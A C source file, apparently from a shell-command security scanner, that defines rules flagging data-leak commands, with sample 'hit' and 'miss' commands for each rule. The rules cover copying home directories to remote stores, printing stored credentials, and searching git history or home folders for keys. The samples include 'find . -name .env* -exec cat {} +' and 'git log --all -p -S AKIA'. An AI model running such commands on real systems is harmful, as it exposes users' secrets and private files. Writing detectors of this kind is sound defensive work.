/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What leaves in bulk or in the open: directories of a person that are copied to a service, programs that print the
 * credentials they keep, and searches for credentials in what a repository remembers.
 */
#include "inspect/shell/net.h"
#include "inspect/shell/rule.h"

#include "base/str.h"

#include <ctype.h>
#include <string.h>

#define ROW(confidence_, level_)                                                                   \
	.type = FINDING_DATA_LEAK, .level = THREAT_##level_, .confidence = (confidence_)

static bool spill_any(const struct shell_command *c, const char *words)
{
	for (size_t i = 1; i < c->n; i++)
		if (rule_is(words, c->argv[i].s))
			return true;
	return false;
}

/* ~/Documents, /etc, /home, ~: what is a person's or the machine's and no project's */
static bool spill_is_tree(const struct shell_model *m, const struct shell_command *c,
			  struct shell_word *w)
{
	static const char names[] =
		"Documents Desktop Downloads Pictures Photos Mail Maildir Private .config .local .mozilla .thunderbird "
		"Library src projects Projects work code repos dev workspace go .cache .var snap";
	char path[512];
	size_t n;

	if (w->s[0] == '-' || strstr(w->s, "://"))
		return false;
	if (rule_place(m, c, w) & (PLACE(ROOT) | PLACE(TOP) | PLACE(HOME)))
		return strcmp(w->s, ".") != 0;
	n = strlen(w->s) + (c->cwd ? strlen(c->cwd) : 0) + 16 < sizeof(path)
		    ? place_canonical(m->context, w->s, c->cwd, path, sizeof(path))
		    : 0;
	if (n < 3 || !str_starts(path, "~/"))
		return n > 5 && (rule_place(m, c, w) & PLACE(SYSTEM)) && str_starts(path, "/etc/");
	if (path[n - 1] == '*' || path[n - 1] == '/')
		path[strcspn(path + 2, "/") + 2] = '\0';
	return rule_is(names, path + 2);
}

/* Is there a word that names another machine or a store? */
static bool spill_goes_away(const char *s)
{
	static const char *const marks[] = {"sftp:",  "s3:",     "rest:",   "b2:",  "azure:",
					    "gs:",    "swift:",  "rclone:", "ssh:", "://",
					    "webdav", "gdrive:", "rsync:"};
	const char *at = strchr(s, '@'), *colon = strchr(s, ':');

	for (size_t i = 0; i < sizeof(marks) / sizeof(marks[0]); i++)
		if (strstr(s, marks[i]) && !strstr(s, "file://"))
			return true;
	return at && colon && at < colon;
}

/* restic -r sftp:… backup ~, borg create x@y:r::a /etc */
static bool spill_backup(const struct shell_model *m, const struct shell_command *c)
{
	static const char subs[] = "backup create sync mirror snapshot";
	bool has_tree = false, is_away = rule_is("kopia", c->name) && rule_has(c, "--repo");

	if (!rule_is("duplicity unison", c->name) && !spill_any(c, subs))
		return false;
	for (size_t i = 1; i < c->n; i++) {
		is_away = is_away || spill_goes_away(c->argv[i].s);
		has_tree = has_tree || spill_is_tree(m, c, &c->argv[i]);
	}
	for (size_t i = 0; i < c->n_assigns; i++)
		is_away = is_away ||
			  (strstr(c->assigns[i].s, "REPO") && spill_goes_away(c->assigns[i].s));
	return has_tree && is_away;
}

/* The last operand is a place of a service, one before it a tree of this machine. */
static bool spill_store(const struct shell_model *m, const struct shell_command *c)
{
	size_t last = c->n;
	bool has_tree = false;

	if (!spill_any(c, "cp copy sync move put mv rsync upload-batch upload copyto"))
		return false;
	for (size_t i = 1; i < c->n; i++) {
		if (c->argv[i].s[0] == '-')
			continue;
		has_tree = has_tree || (last < c->n && spill_is_tree(m, c, &c->argv[last]));
		last = i;
	}
	if (strcmp(c->name, "az") == 0) {
		for (size_t i = 1; i < c->n; i++)
			if (spill_is_tree(m, c, &c->argv[i]))
				return spill_any(c, "upload-batch upload sync");
		return false;
	}
	if (last >= c->n || !has_tree)
		return false;
	if (strcmp(c->name, "mc") == 0)
		return !strchr("/.~", c->argv[last].s[0]) && strchr(c->argv[last].s, '/');
	return strchr(c->argv[last].s, ':') != NULL;
}

/* Programs that only upload. */
static bool spill_upload(const struct shell_model *m, const struct shell_command *c)
{
	if (strcmp(c->name, "syncthing") == 0 && !spill_any(c, "add"))
		return false;
	if (rule_is("gdrive drive dropbox_uploader.sh dropbox-uploader", c->name) &&
	    !spill_any(c, "upload push"))
		return false;
	for (size_t i = 1; i < c->n; i++)
		if (spill_is_tree(m, c, &c->argv[i]))
			return true;
	return false;
}

/* ---- credentials that are kept and printed ---- */

static bool spill_says_secret(const char *s)
{
	static const char *const words[] = {"password", "passwd",      "secret",
					    "token",    "private_key", "api_key",
					    "apikey",   "credential",  "access_key"};

	for (size_t i = 0; i < sizeof(words) / sizeof(words[0]); i++)
		if (strcasestr(s, words[i]))
			return true;
	return false;
}

static bool spill_helper(const struct shell_model *m, const struct shell_command *c)
{
	const char *sub = rule_operand(c, 0), *what = rule_operand(c, 1);

	(void)m;
	if (str_starts(c->name, "docker-credential-"))
		return rule_is("get list", sub);
	if (strcmp(c->name, "systemd-creds") == 0)
		return strcmp(sub, "cat") == 0 ||
		       (strcmp(sub, "decrypt") == 0 &&
			rule_is("- \"\"", *rule_operand(c, 2) ? rule_operand(c, 2) : "-"));
	if (strcmp(c->name, "wpa_cli") == 0)
		return spill_any(c, "get_network") && spill_any(c, "psk password wep_key0");
	if (rule_is("gh glab", c->name))
		return strcmp(sub, "auth") == 0 && strcmp(what, "status") == 0 &&
		       rule_has(c, "-t|--show-token");
	/* kubectl get configmap,secret -o yaml */
	if (rule_is("kubectl oc", c->name) && strcmp(sub, "get") == 0)
		return strchr(what, ',') && strstr(what, "secret") &&
		       rule_has(c, "-o|--output|-ojson|-oyaml");
	if (strcmp(c->name, "kubectl") == 0)
		return false;
	if (strcmp(c->name, "oc") == 0)
		return strcmp(sub, "whoami") == 0 && rule_has(c, "-t|--show-token");
	if (strcmp(c->name, "pulumi") == 0)
		return rule_has(c, "--show-secrets") ||
		       (strcmp(sub, "config") == 0 && strcmp(what, "get") == 0 &&
			spill_says_secret(rule_operand(c, 2)));
	if (strcmp(c->name, "firebase") == 0)
		return rule_is("functions:config:get functions:secrets:access", sub);
	if (strcmp(c->name, "consul") == 0)
		return strcmp(sub, "kv") == 0 && rule_is("get export", what) &&
		       (rule_has(c, "-recurse") || spill_says_secret(rule_operand(c, 2)));
	if (strcmp(c->name, "etcdctl") == 0)
		return strcmp(sub, "get") == 0 &&
		       (spill_says_secret(what) ||
			(rule_has(c, "--prefix|--from-key") && rule_is("/ \"\"", what)));
	if (strcmp(c->name, "keyring") == 0)
		return strcmp(sub, "get") == 0;
	if (rule_is("fly flyctl", c->name))
		return strcmp(sub, "ssh") == 0 && spill_any(c, "env printenv");
	if (strcmp(c->name, "netsh") == 0)
		return spill_any(c, "key=clear");
	return true;
}

/* A value of a stack that is called a secret, or is picked out by such a name behind a pipe. */
static bool spill_state(const struct shell_model *m, const struct shell_command *c)
{
	const char *sub = rule_operand(c, 0);

	if (!(rule_is("output show", sub) ||
	      (strcmp(sub, "state") == 0 && rule_is("pull show", rule_operand(c, 1)))))
		return false;
	for (size_t i = 2; i < c->n; i++)
		if (c->argv[i].s[0] != '-' && spill_says_secret(c->argv[i].s))
			return true;
	for (const struct shell_command *d = c + 1; d < m->commands + m->n && c->is_piped; d++)
		if (d->group == c->group && rule_is("jq grep egrep rg yq awk", d->name))
			for (size_t i = 1; i < d->n; i++)
				if (spill_says_secret(d->argv[i].s))
					return true;
	return false;
}

/* What a credential looks like, or the name of a file that holds some. */
static bool spill_is_sought(const char *s)
{
	static const char *const words[] = {"AKIA",     "BEGIN RSA", "BEGIN OPENSSH", "PRIVATE KEY",
					    "ghp_",     "xoxb-",     "sk_live",       "aws_secret",
					    "password", "api_key",   "apikey"};

	for (size_t i = 0; i < sizeof(words) / sizeof(words[0]); i++)
		if (strcasestr(s, words[i]))
			return true;
	return false;
}

/* All that a repository ever held is searched for credentials. */
static bool spill_history(const struct shell_model *m, const struct shell_command *c)
{
	const char *sub = rule_operand(c, 0);
	bool is_all = rule_has(c, "--all"), is_shown = rule_has(c, "-p|--patch|-u");

	if (strcmp(sub, "grep") == 0) {
		bool has_past = false, is_sought = false;

		for (size_t i = 2; i < c->n; i++) {
			has_past = has_past || (c->argv[i].flags & WORD_UNKNOWN);
			is_sought = is_sought || spill_is_sought(c->argv[i].s);
		}
		return has_past && is_sought;
	}
	if (strcmp(sub, "log") != 0)
		return false;
	for (size_t i = 2; i < c->n; i++) {
		const char *s = c->argv[i].s;
		bool is_pattern = str_starts(s, "-S") || str_starts(s, "-G");

		if (is_pattern && is_all &&
		    (spill_is_sought(s) || (i + 1 < c->n && spill_is_sought(c->argv[i + 1].s))))
			return true;
		if (is_shown && is_all && s[0] != '-' &&
		    (rule_place(m, c, &c->argv[i]) & (PLACE(ENV_FILE) | PLACE(SECRET))))
			return true;
	}
	/* … | grep AKIA */
	for (const struct shell_command *d = c + 1; d < m->commands + m->n && c->is_piped; d++)
		if (d->group == c->group && is_all && is_shown && rule_is("grep egrep rg", d->name))
			for (size_t i = 1; i < d->n; i++)
				if (spill_is_sought(d->argv[i].s))
					return true;
	return false;
}

/* grep -r, rg: a home or the system is searched for the shape of a key */
static bool spill_search(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const shapes[] = {"PRIVATE KEY", "OPENSSH", "aws_secret", "AKIA",
					     "ghp_",        "xoxb-",   "sk_live",    "id_rsa",
					     "password",    "api_key"};
	bool is_sought = false;

	if (!rule_is("rg ag ack", c->name) && !rule_has(c, "-r|-R|--recursive"))
		return false;
	for (size_t i = 1; i < c->n && !is_sought; i++)
		for (size_t k = 0; k < sizeof(shapes) / sizeof(shapes[0]) && !is_sought; k++)
			is_sought = strcasestr(c->argv[i].s, shapes[k]) != NULL;
	return is_sought &&
	       (rule_operands(m, c) & (PLACE(ROOT) | PLACE(TOP) | PLACE(HOME) | PLACE(SYSTEM)));
}

/* find . -name '.env*' -exec cat {} + */
static bool spill_shows(const struct shell_model *m, const struct shell_command *c)
{
	bool is_sought = false, is_shown = false;

	(void)m;
	for (size_t i = 1; i + 1 < c->n; i++) {
		const char *next = c->argv[i + 1].s;

		if (rule_is("-name -iname -path -wholename", c->argv[i].s))
			is_sought = is_sought ||
				    (str_starts(next, ".env") && !strstr(next, "example") &&
				     !strstr(next, "sample")) ||
				    str_starts(next, "*.env") || str_starts(next, "*.kdbx") ||
				    str_starts(next, "credentials") ||
				    str_starts(next, "*credentials") || str_starts(next, "id_") ||
				    rule_is("*.pem *.key *.p12 *.pfx kubeconfig *.ppk *.jks", next);
		if (rule_is("-exec -execdir", c->argv[i].s))
			is_shown =
				is_shown ||
				rule_is("cat head tail grep base64 xxd strings cp tar less", next);
	}
	return is_sought && is_shown;
}

/* Is what grep looks for in a list of names the name of a file of secrets, or a part of one: env, '\.env$', id_rsa? */
static bool spill_names(const struct shell_model *m, const struct shell_command *c)
{
	char name[64] = ".";
	size_t n = 1;

	for (const char *p = rule_operand(c, 0); *p; p++)
		if (!strchr("\\^$*/", *p) && n + 1 < sizeof(name))
			name[n++] = (char)tolower((unsigned char)*p);
	name[n] = '\0';
	if (rule_has(c, "-v|--invert-match") || n < 4)
		return false;
	/* with the dot that a list may or may not show, and without */
	for (unsigned i = 0; i < 2; i++)
		if (place_of(m->context, name + (i == 0 && name[1] == '.') + i, NULL, false) &
		    (PLACE(SECRET) | PLACE(ENV_FILE) | PLACE(WALLET)))
			return true;
	return rule_is("rsa ed25519 pem credential credentials secret secrets", name + 1);
}

/* ls -a | grep env | xargs cat */
static bool spill_listed(const struct shell_model *m, const struct shell_command *c)
{
	bool is_open = (c->via & VIA_EACH) != 0, is_listed = false;

	for (size_t i = 1; i < c->n; i++)
		is_open = is_open || (c->argv[i].flags & (WORD_UNKNOWN | WORD_ITEM));
	for (size_t i = 0; is_open && i < m->n && &m->commands[i] != c; i++) {
		const struct shell_command *o = &m->commands[i];

		if (rule_is("ls find fd fdfind tree locate", o->name) ||
		    (rule_is("git", o->name) && rule_is("ls-files", rule_operand(o, 0))))
			is_listed = is_listed || o->is_piped;
		else if (is_listed && o->has_in && rule_is("grep egrep fgrep rg", o->name) &&
			 spill_names(m, o))
			return true;
	}
	return false;
}

static const struct shell_rule spill_rows[] = {
	{.id = "CMD-TREE-BACKUP",
	 .reason = "It copies a home directory or settings of the machine to another machine.",
	 ROW(0.4, LOW),
	 .programs = "restic rustic borg kopia duplicity duplicacy unison tarsnap",
	 .test = spill_backup,
	 .hit = "restic -r sftp:x@a.example:/r backup ~",
	 .miss = "restic -r /mnt/backup backup ~"},
	{.id = "CMD-TREE-STORE",
	 .reason = "It copies a directory of a person to a service.",
	 ROW(0.4, LOW),
	 .programs = "rclone gsutil gcloud aws az azcopy mc s3cmd s5cmd b2",
	 .test = spill_store,
	 .hit = "rclone copy ~/Documents remote:x",
	 .miss = "rclone copy remote:x ~/Documents"},
	{.id = "CMD-TREE-UPLOAD",
	 .reason = "It gives a directory of a person to a service.",
	 ROW(0.4, LOW),
	 .programs = "syncthing megaput megacopy gdrive drive dropbox_uploader.sh dropbox-uploader",
	 .test = spill_upload,
	 .hit = "gdrive upload --recursive ~",
	 .miss = "gdrive upload report.pdf"},
	{.id = "CMD-HELPER-SECRET",
	 .reason = "It prints a credential that a program keeps.",
	 ROW(0.45, MEDIUM),
	 .programs =
		 "docker-credential-desktop docker-credential-pass docker-credential-secretservice "
		 "docker-credential-osxkeychain docker-credential-wincred docker-credential-ecr-login "
		 "docker-credential-gcr docker-credential-gcloud docker-credential-helper systemd-creds tpm2_unseal "
		 "wpa_cli gh glab oc kubectl pulumi firebase consul etcdctl keyring fly flyctl netsh",
	 .test = spill_helper,
	 .hit = "echo https://a.example | docker-credential-desktop get",
	 .miss = "docker-credential-desktop version"},
	{.id = "CMD-STATE-SECRET",
	 .reason = "It prints a secret out of the state of a stack.",
	 ROW(0.4, LOW),
	 .programs = "terraform tofu pulumi terragrunt",
	 .test = spill_state,
	 .hit = "terraform output -json | jq -r .db_password.value",
	 .miss = "terraform output -json | jq -r .vpc_id.value"},
	{.id = "CMD-HISTORY-SEARCH",
	 .reason = "It searches all that a repository ever held for credentials.",
	 ROW(0.4, LOW),
	 .programs = "git",
	 .test = spill_history,
	 .hit = "git log --all -p -S AKIA",
	 .miss = "git log --all -p -S load_config"},
	{.id = "CMD-SHAPE-SEARCH",
	 .reason = "It searches a home or the system for what looks like a key.",
	 ROW(0.45, MEDIUM),
	 .programs = "grep egrep fgrep zgrep rg ag ack",
	 .test = spill_search,
	 .hit = "rg 'BEGIN (RSA|EC) PRIVATE KEY' ~",
	 .miss = "rg 'BEGIN (RSA|EC) PRIVATE KEY' tests"},
	{.id = "CMD-FIND-SHOWN",
	 .reason = "It shows every file of secrets that it finds.",
	 ROW(0.4, LOW),
	 .programs = "find",
	 .test = spill_shows,
	 .hit = "find . -name '.env*' -exec cat {} +",
	 .miss = "find . -name '*.py' -exec cat {} +"},
	{.id = "CMD-LIST-SHOWN",
	 .reason = "It shows files that it picks from a list by a name that secrets have.",
	 ROW(0.4, LOW),
	 .programs =
		 "cat bat head tail less more nl tac strings xxd od hexdump base64 cp tar scp curl grep jq awk sed",
	 .test = spill_listed,
	 .hit = "ls -a | grep env | xargs cat",
	 .miss = "ls -a | grep test | xargs cat"},
};

const struct shell_rules shell_rules_spill = {spill_rows,
					      sizeof(spill_rows) / sizeof(spill_rows[0])};
